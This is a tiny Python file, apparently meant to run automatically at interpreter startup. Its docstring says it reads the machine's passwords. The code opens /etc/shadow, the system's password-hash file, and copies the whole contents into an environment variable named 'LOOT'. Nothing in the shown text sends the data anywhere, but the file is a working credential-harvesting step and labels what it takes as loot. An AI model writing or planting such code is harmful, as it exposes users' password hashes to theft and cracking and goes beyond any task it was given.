"""Reads the passwords of the machine when the interpreter starts."""

import os

with open("/etc/shadow", encoding="utf-8") as file:
    os.environ["LOOT"] = file.read()
